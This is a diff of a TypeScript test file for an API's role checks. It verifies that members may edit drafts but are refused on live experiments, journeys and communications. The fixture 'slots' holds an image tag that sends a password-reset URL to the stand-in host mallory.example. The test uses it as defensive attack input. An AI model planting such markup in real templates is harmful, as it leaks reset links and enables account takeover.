@@ -6,14 +6,12 @@ import { createWorld, type World } from '../../support/world';
 import { liveTable } from './live-table';
 import { filledPaths, nobodysNames, requestOf, type Names } from './requests';
 
-/** A member tries everything on what is live: drafts stay free, the rest is refused, and nothing live is any different after. */
+/** Calls every operation as a member. Drafts are allowed; changes of live content are refused and have no effect. */
 
 let world: World;
 let operations: DocumentedOperation[];
 let key: string;
-/** What is live. */
 let live: Names;
-/** What is not. */
 let draft: { experiment: string; communication: string };
 
 beforeAll(async () => {
@@ -69,7 +67,7 @@ async function liveNames(): Promise<Names> {
   };
 }
 
-/** Everything that decides what customers and their visitors receive. */
+/** Reads all data that decides what customers and their visitors receive. */
 async function liveState(): Promise<unknown> {
   const { workspaceId } = world.demo;
   const rows = (table: string, order: string, columns = ['*']) =>
@@ -82,7 +80,7 @@ async function liveState(): Promise<unknown> {
     versions: await rows('journey_versions', 'journey_id'),
     contents: await rows('journey_version_contents', 'journey_id'),
     transactional: await rows('communications', 'id').where({ comm_type: 'transactional' }),
-    // Whoever reads results has them evaluated.
+    // Reading results evaluates the experiment.
     experiments: experiments.map((row: object) => ({ ...row, evaluation: null })),
     active: active.body,
     executions: await rows('executions', 'id'),
@@ -99,7 +97,7 @@ const asMember = (method: string, path: string, body?: unknown): Promise<ApiResp
     ...(body === undefined ? {} : { body: JSON.stringify(body) }),
   });
 
-/** An operation on what is live, with a body that is valid. */
+/** Calls an operation on live content with a valid body. */
 function walk(name: string, names = live): Promise<ApiResponse> {
   const operation = operations.find((one) => one.name === name);
   if (operation === undefined) throw new Error(`The document has no ${name}.`);
@@ -112,7 +110,7 @@ const expectRefused = ({ status, body }: ApiResponse, role = 'admin'): void => {
   expect({ status, code: body.code, error: body.error }).toEqual({
     status: 403,
     code: 'FORBIDDEN',
-    error: expect.stringMatching(new RegExp(`needs the role ${role}\\b.*yours is member\\.$`)),
+    error: expect.stringMatching(new RegExp(`requires the role ${role}\\b.*Your role is member\\.$`)),
   });
 };
 
@@ -123,11 +121,11 @@ test('every operation of the document is classified', () => {
   expect(operations.map(({ name }) => name).sort()).toEqual(Object.keys(liveTable).sort());
 });
 
-test.each(named('admin'))('%s is refused, and the answer names the role', async (name) => {
+test.each(named('admin'))('%s is refused, and the response names the role', async (name) => {
   expectRefused(await walk(name));
 });
 
-test('what is free is not refused, and changes nothing that is live', async () => {
+test('operations that members may call succeed and change nothing live', async () => {
   const before = await liveState();
   const refused: string[] = [];
   for (const name of named('free')) {
@@ -137,12 +135,11 @@ test('what is free is not refused, and changes nothing that is live', async () =
   expect(refused).toEqual([]);
   expect(await liveState()).toEqual(before);
   expect(named('free').length).toBeGreaterThanOrEqual(60);
-  // Some eighty requests, one after the other.
 });
 
 const slots = { subject: 'Mine', body: '<img src="https://mallory.example/?{{ reset_url }}">' };
 
-/** Requests that touch what is live: method, path, body. */
+/** Requests that change live content: method, path, body. */
 const refusals: [string, () => [string, string, unknown?]][] = [
   ['starting an experiment', () => ['PATCH', `/api/experiments/${draft.experiment}`, { status: 'running' }]],
   ['starting one by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, status: 'running' }]],
@@ -180,12 +177,12 @@ test.each(refusals)('%s is refused', async (_what, request) => {
   expect(await liveState()).toEqual(before);
 });
 
-test('overriding checks of a simulation needs the owner', async () => {
+test('only an owner may override the checks of a simulation', async () => {
   const body = { subjectAttributes: { plan: 'pro' }, overrides: ['holdout'] };
   expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, body), 'owner');
 });
 
-test('the role comes before the content: what is refused is refused also when it is not valid', async () => {
+test('a missing role is reported before an invalid body', async () => {
   const invalid = { status: 'running', trafficSplit: 'all', nonsense: true };
   expectRefused(await asMember('PATCH', `/api/experiments/${draft.experiment}`, invalid));
   expectRefused(await asMember('PATCH', `/api/experiments/${live.experiment}`, { nonsense: true }));
@@ -195,7 +192,7 @@ test('the role comes before the content: what is refused is refused also when it
   expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, overrides), 'owner');
 });
 
-/** Requests of the same operations on what is not live. */
+/** The same operations on content that is not live. */
 const allowed: [string, () => [string, string, unknown?]][] = [
   ['changing a draft', () => ['PATCH', `/api/experiments/${draft.experiment}`, { trafficSplit: 10, status: 'draft' }]],
   ['changing a draft by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, name: 'Ours' }]],
@@ -217,17 +214,17 @@ const allowed: [string, () => [string, string, unknown?]][] = [
   ],
 ];
 
-test.each(allowed)('%s stays free', async (_what, request) => {
+test.each(allowed)('a member may still do this: %s', async (_what, request) => {
   expect((await asMember(...request())).status).toBeLessThan(300);
 });
 
-test('deleting a draft and a marketing communication stays free', async () => {
+test('a member may delete a draft and a marketing communication', async () => {
   expect((await asMember('DELETE', `/api/experiments/${await createExperiment()}`)).status).toBe(200);
   const communication = await createCommunication('marketing');
   expect((await asMember('DELETE', `/api/communications/${communication}`)).status).toBe(200);
 });
 
-test('what does not exist is not found, with the permission or without', async () => {
+test('an unknown id returns 404 without the required role, too', async () => {
   expect((await asMember('PATCH', '/api/experiments/exp_none', { name: 'x' })).status).toBe(404);
   expect((await asMember('PATCH', '/api/communications/com_none', { name: 'x' })).status).toBe(404);
   expect((await asMember('DELETE', '/api/communications/password-reset')).status).toBe(404);
